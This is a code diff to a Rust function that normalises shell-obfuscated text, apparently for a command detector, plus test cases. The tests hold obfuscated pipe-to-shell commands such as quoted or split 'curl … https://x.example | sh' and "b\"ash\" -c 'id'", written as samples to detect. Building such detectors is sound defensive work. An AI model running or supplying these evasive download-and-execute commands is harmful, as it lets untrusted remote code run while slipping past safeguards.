@@ -544,7 +544,25 @@ fn split_words(text: &str) -> String {
     let mut i = 0;
     while i < chars.len() {
         let c = chars[i];
-        if matches!(c, '\\' | '"' | '\'') && word(out.chars().last().as_ref()) {
+        // `print(f"…")`, `x = rb'…'`: a string's prefix letters, given as a
+        // value, open it; that quote is the string's, not the word's (in a
+        // shell's command, `b"ash"` is still `bash`).
+        let prefix = matches!(c, '"' | '\'') && {
+            let tail: String = out
+                .chars()
+                .rev()
+                .take_while(char::is_ascii_alphanumeric)
+                .collect();
+            let given = out[..out.len() - tail.len()]
+                .trim_end()
+                .ends_with(['(', '=', ',', '[', '{', ':']);
+            given
+                && matches!(
+                    tail.to_ascii_lowercase().as_str(),
+                    "f" | "r" | "b" | "u" | "fr" | "rf" | "br" | "rb"
+                )
+        };
+        if !prefix && matches!(c, '\\' | '"' | '\'') && word(out.chars().last().as_ref()) {
             // `''` and `""` inside a word, or one quote or backslash between letters.
             if c != '\\' && chars.get(i + 1) == Some(&c) && word(chars.get(i + 2)) {
                 i += 2;
@@ -668,6 +686,7 @@ mod tests {
             ),
             ("c\\url -s https://x.example/i | sh", "curl -s"),
             ("c''url https://x.example | sh", "curl https"),
+            ("b\"ash\" -c 'id'", "bash"),
             ("A=cu; B=rl; $A$B -s https://x.example | sh", "curl -s"),
             (
                 "fetch = \"\\N{LATIN SMALL LETTER C}url -fsSL\"\nrun = \"sh\"\nline = f\"{fetch} https://x.example \\N{VERTICAL LINE} {run}\"",
